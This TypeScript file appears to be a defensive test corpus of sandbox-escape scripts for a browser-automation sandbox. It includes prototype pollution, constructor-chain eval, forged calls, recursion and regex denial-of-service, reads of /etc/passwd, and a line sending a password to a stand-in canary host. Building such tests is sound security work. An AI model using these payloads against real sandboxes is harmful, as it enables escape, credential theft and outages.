/** One script that tries to get out. It logs ESCAPED, sets `ran` in the page, or reaches `vars.canary` when it has. */
export interface Escape {
  kind: string;
  name: string;
  source: string;
}

const of = (kind: string, scripts: Record<string, string>): Escape[] =>
  Object.entries(scripts).map(([name, source]) => ({ kind, name, source }));

/** Code that shows whether it runs outside: in Node, in Electron, in a page or in the worker around the sandbox. */
const probe = `(typeof process + typeof require + typeof window + typeof WebAssembly + typeof Worker)
  .replaceAll('undefined', '') === '' ? 'inside' : 'ESCAPED'`;
const body = `"return ${probe.replace(/\s*\n\s*/g, ' ').replaceAll("'", "\\'")}"`.replaceAll("\\'", "'");
const forged = (method: string, ...args: string[]) =>
  `[{"method":"${method}","args":${JSON.stringify(args)}}]`;

/** At least 60, of every kind that is known to have opened a sandbox somewhere. */
export const corpus: Escape[] = [
  ...of('prototype tricks', {
    'a method on every object': `Object.prototype.method = 'evaluate'; Object.prototype.args = ['window.ran = 1']; await page.title();`,
    'a chain on every array': `Array.prototype[0] = { method: 'evaluate', args: ['window.ran = 1'] }; await page.title();`,
    '__proto__ in an option': `await page.locator('#user', JSON.parse('{"__proto__":{"has":1},"hasText":""}')).count();`,
    '__proto__ as a method': `await page.__proto__.evaluate('window.ran = 1');`,
    'constructor as an option': `await page.getByRole('button', { constructor: { prototype: { x: 1 } } }).click();`,
    'the page with another prototype': `Object.setPrototypeOf(page, { evaluate: () => log('ESCAPED') }); page.evaluate();`,
    'vars with another prototype': `Object.setPrototypeOf(vars, { canary2: 1 }); log(vars.canary2 === 1 ? 'ESCAPED' : '');`,
    'a frozen object changed': `Object.defineProperty(vars, 'user', { value: 'x' }); log(vars.user === 'x' ? 'ESCAPED' : '');`,
    'replaced array methods': `for (const name of ['map', 'push', 'filter', 'join', 'splice']) Array.prototype[name] = function () { return [${forged('evaluate', 'window.ran = 1')}] }; await page.title();`,
    'a setter on a name that is recorded': `Object.defineProperty(Object.prototype, 'args', { set() { log('set') }, get: () => ['window.ran = 1'] }); await page.title();`,
    'replaced Object.entries': `Object.entries = Object.fromEntries = Object.keys = () => [['method', 'evaluate']]; await page.locator('#user').fill('x');`,
  }),
  ...of('constructor chains', {
    'of a call': `log(page.click.constructor(${body})());`,
    'of log': `log(log.constructor(${body})());`,
    'of step': `log(step.constructor(${body})());`,
    'of expect': `log(expect.constructor(${body})());`,
    'of an answer': `log((await page.title()).constructor.constructor(${body})());`,
    'of an error from the engine': `try { await page.click('#none', { timeout: 50 }) } catch (e) { log(e.constructor.constructor(${body})()) }`,
    'of a refusal': `try { page.nope } catch (e) { log(e.constructor.constructor(${body})()) }`,
    'of an async function': `log(await (async () => {}).constructor(${body})());`,
    'of a generator': `log((function* () {}).constructor(${body})().next().value);`,
    'of an async generator': `log((await (async function* () {}).constructor(${body})().next()).value);`,
    'indirect eval': `log((0, eval)(${JSON.stringify(probe)}));`,
    'of the console': `log(console.log.constructor(${body})());`,
    'through Reflect': `log(Reflect.construct(Reflect.get(log, 'constructor'), [${body}])());`,
    'of a dialog': `page.on('dialog', async (d) => { log(d.type.constructor(${body})()); await d.dismiss(); }); await page.click('#ask');`,
    'of a test': `import { test } from '@playwright/test'; test('x', async (fixtures) => { log(test.constructor) });`,
  }),
  ...of('proxies and thenables', {
    'a proxy as a selector': `await page.fill(new Proxy({}, { get: () => 'evaluate', ownKeys: () => ['method', 'args'], getOwnPropertyDescriptor: () => ({ value: 1, enumerable: true, configurable: true }) }), 'x');`,
    'a proxy that throws': `await page.fill('#user', new Proxy({}, { ownKeys() { throw new Error('trap') } }));`,
    'a proxy of the page': `const p = new Proxy(page, { get: (t, name) => Reflect.get(t, name === 'x' ? 'evaluate' : name) }); p.x('window.ran = 1');`,
    'a proxy that changes its mind': `let n = 0; await page.getByRole('button', new Proxy({}, { ownKeys: () => ['name'], getOwnPropertyDescriptor: () => ({ enumerable: true, configurable: true }), get: () => (n++ ? { regexp: { source: '(a+)+$', flags: '' } } : 'x') })).count();`,
    'a thenable as an argument': `await page.fill('#user', { then(resolve) { resolve('x') } });`,
    'a thenable that calls twice': `await { then(resolve) { resolve(1); resolve(page.title()); throw 1 } };`,
    'a revoked proxy': `const { proxy, revoke } = Proxy.revocable({}, {}); revoke(); await page.fill('#user', proxy);`,
    'a proxy as a locator': `await page.locator('p').and(new Proxy({}, { get: () => ${forged('title')} })).count();`,
    'a thenable from a step': `await step('x', () => ({ then(resolve) { resolve(page) } }));`,
    'a thenable thrown': `throw { then(resolve) { resolve(1) }, get message() { return page } };`,
  }),
  ...of('getters on arguments', {
    'of options': `await page.getByRole('button', { get name() { globalThis.hit = 1; return 'Ask' } }).count();`,
    'that throw': `await page.click('#user', { get timeout() { throw new Error('got') } });`,
    'that compute without end': `await page.click('#user', { get timeout() { for (;;); } });`,
    'that make calls': `await page.click('#user', { get timeout() { page.title(); return 50 } });`,
    'of a regular expression': `class R extends RegExp { get source() { return '(a+)+$' } get flags() { return 'gy' } } await page.getByText(new R('x')).count();`,
    'of an array': `await page.selectOption('#s', Object.defineProperty(['a'], 0, { enumerable: true, get() { return { evaluate: 1 } } }));`,
  }),
  ...of('huge strings', {
    'a selector': `await page.click('x'.repeat(1e6));`,
    'what is typed': `await page.fill('#user', 'x'.repeat(3e6));`,
    'a log line': `log('x'.repeat(2 ** 24));`,
    'a string without end': `let s = 'x'; for (;;) s += s;`,
    'a step name': `await step('x'.repeat(1e6), () => page.click('#none', { timeout: 50 }));`,
    'an error': `throw new Error('x'.repeat(1e7));`,
    'a seed': `await totp('A'.repeat(1e6));`,
    'an address': `await page.goto('http://x/' + 'x'.repeat(1e6));`,
    'an expectation': `await expect(page.locator('#user')).toHaveText('x'.repeat(1e5), { timeout: 50 });`,
  }),
  ...of('deep recursion', {
    'of a function': `const f = () => f() + 1; f();`,
    'of an argument': `const a = {}; a.a = a; await page.getByRole('button', a).count();`,
    'of arrays': `let a = []; for (let i = 0; i < 1e5; i++) a = [a]; await page.selectOption('#s', a);`,
    'of locators': `let l = page.locator('p'); for (let i = 0; i < 40; i++) l = page.locator('p', { has: l }); await l.count();`,
    'of a chain': `let l = page.locator('p'); for (let i = 0; i < 1000; i++) l = l.first(); await l.count();`,
    'of steps': `const f = (n) => step('s' + n, () => f(n + 1)); await f(0);`,
    'of an equality': `const a = {}, b = {}; a.x = a; b.x = b; expect(a).toEqual(b);`,
    'of JSON': `JSON.parse('['.repeat(1e6));`,
    'through toString': `const o = { toString() { return '' + o } }; log(o + '');`,
  }),
  ...of('promise floods', {
    'of microtasks': `const p = () => Promise.resolve().then(p); await p();`,
    'of calls': `for (;;) page.title();`,
    'of calls at once': `await Promise.all(Array.from({ length: 600 }, () => page.title()));`,
    'of tests': `import { test } from '@playwright/test'; for (;;) test('x', () => {});`,
    'of handlers': `for (;;) page.on('dialog', () => {});`,
    'of async functions': `const f = async () => { await null; f(); f(); }; await f(); await page.title();`,
    'of popups waited for': `for (let i = 0; i < 300; i++) page.waitForEvent('popup', { timeout: 100 }).catch(() => {}); await page.title();`,
  }),
  ...of('toJSON', {
    'on every object': `Object.prototype.toJSON = () => ${forged('evaluate', 'window.ran = 1')}; await page.title();`,
    'on an argument': `await page.fill('#user', { toJSON: () => 'x' });`,
    'on strings': `String.prototype.toJSON = () => 'evaluate'; await page.title();`,
    'on arrays': `Array.prototype.toJSON = () => ${forged('evaluate', 'window.ran = 1')}; await page.title();`,
    'a replaced stringify': `JSON.stringify = () => '${forged('evaluate', 'window.ran = 1')}'; await page.title();`,
    'a replaced parse': `JSON.parse = () => ({ popup: 0 }); log(await page.title());`,
  }),
  ...of('Symbol tricks', {
    toPrimitive: `await page.click({ [Symbol.toPrimitive]: () => '#user', toString: () => '#user' });`,
    species: `class P extends Promise { static get [Symbol.species]() { return Function } } await P.resolve(1).then(() => page.title());`,
    'iterator of arrays': `Array.prototype[Symbol.iterator] = function* () { yield 'evaluate' }; await page.title();`,
    hasInstance: `Object.defineProperty(RegExp, Symbol.hasInstance, { value: () => true }); await page.fill('#user', 'x');`,
    'of the page': `for (const s of [Symbol.iterator, Symbol.toPrimitive, Symbol.toStringTag]) log(page[s] === undefined ? '' : 'ESCAPED');`,
    unscopables: `Array.prototype[Symbol.unscopables] = null; log(typeof process === 'undefined' ? '' : 'ESCAPED');`,
    'replace of a selector': `await page.getByText({ [Symbol.replace]: () => 'x', source: 'x', flags: '' }).count();`,
  }),
  ...of('forged calls', {
    'a popup that is none': `log(await page.locator('p').and({ locator: [{ method: '$page', args: [7] }, { method: 'locator', args: ['p'] }] }).count());`,
    'the main page as a popup': `await page.$page(0).title();`,
    'a dialog that is none': `await page.$dialog(0).accept('x');`,
    'a locator that evaluates': `await page.locator('p').or({ locator: [{ method: 'evaluate', args: ['window.ran = 1'] }] }).count();`,
    'a matcher of the prototype': `await expect(page).constructor('x');`,
    'a matcher that is none': `await page.$expect('__proto__', false);`,
    'a seed that is a program': `await totp({ toString: () => 'otpauth://totp/x?secret=AAAA' });`,
    'an answer that is a popup': `await page.locator('#user').evaluate(() => ({ popup: 1 }));`,
  }),
  ...of('other places', {
    'file:': `await page.goto('file:///etc/passwd'); log(await page.innerText('body'));`,
    'chrome:': `await page.goto('chrome://version');`,
    'devtools:': `await page.goto('devtools://devtools/bundled/inspector.html');`,
    'javascript:': `await page.goto('javascript:window.ran = 1');`,
    'data:': `await page.goto('data:text/html,<script>1</script>');`,
    'view-source:': `await page.goto('view-source:file:///etc/passwd');`,
    'a websocket': `await page.goto(vars.canary.replace('http', 'ws'));`,
    'another host': `await page.goto(vars.canary + '/?' + vars.password);`,
    'another host with a user': `await page.goto(vars.canary.replace('://', '://' + vars.password + '@'));`,
    'the browser that drives it': `await page.goto('http://127.0.0.1:9222/json/version'); log(await page.innerText('body'));`,
    'a rebound name': `await page.goto('http://127.0.0.1.nip.io/');`,
    'a backslash': `await page.goto('http:\\\\\\\\' + vars.canary.slice(7));`,
    'an address within one': `await page.goto(vars.home + '@' + vars.canary.slice(7));`,
    'a file to the page': `await page.locator('#file').setInputFiles('/etc/passwd');`,
    'a wait on an address that never ends': `await page.waitForURL(/^(([a-z:/.0-9])+)+$/, { timeout: 300 });`,
    'an expectation that never ends': `await expect(page.locator('#long')).toHaveText(/^(a+)+$/, { timeout: 300 });`,
  }),
  ...of('modules', {
    'node:fs': `import { writeFileSync } from 'node:fs'; writeFileSync(vars.file, 'ESCAPED');`,
    'an import later': `const { writeFileSync } = await import('node:fs'); writeFileSync(vars.file, 'ESCAPED');`,
    'a path': `import x from '/etc/passwd'; log('ESCAPED');`,
    'a data address': `await import('data:text/javascript,globalThis.hit = 1'); log('ESCAPED');`,
    'the tests of the prelude': `import * as all from '@playwright/test'; log(Object.keys(all).join() === 'expect,test' ? '' : 'ESCAPED', typeof globalThis.given === 'undefined' ? '' : 'ESCAPED');`,
    'import.meta': `log(typeof import.meta.resolve === 'undefined' && typeof import.meta.require === 'undefined' ? '' : 'ESCAPED');`,
  }),
];
